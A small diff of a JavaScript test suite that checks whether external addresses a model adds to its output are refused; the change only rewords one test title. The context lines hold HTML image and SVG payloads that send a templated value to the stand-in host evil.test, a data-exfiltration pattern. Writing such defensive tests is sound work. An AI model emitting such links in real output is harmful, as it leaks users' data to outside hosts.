@@ -48,7 +48,7 @@ describe('external addresses that a model adds', () => {
     expect(notes.at(-1)).to.include('shop11.de')
   })
 
-  it('are refused, however they are spelled, unless the user wrote them', () => {
+  it('are refused, no matter how they are spelled, unless the user wrote them', () => {
     const pages = [
       '<img src="https://evil.test/?d={{name}}" alt="">',
       '<svg><image href="https://evil.test/{{name}}"/></svg>',
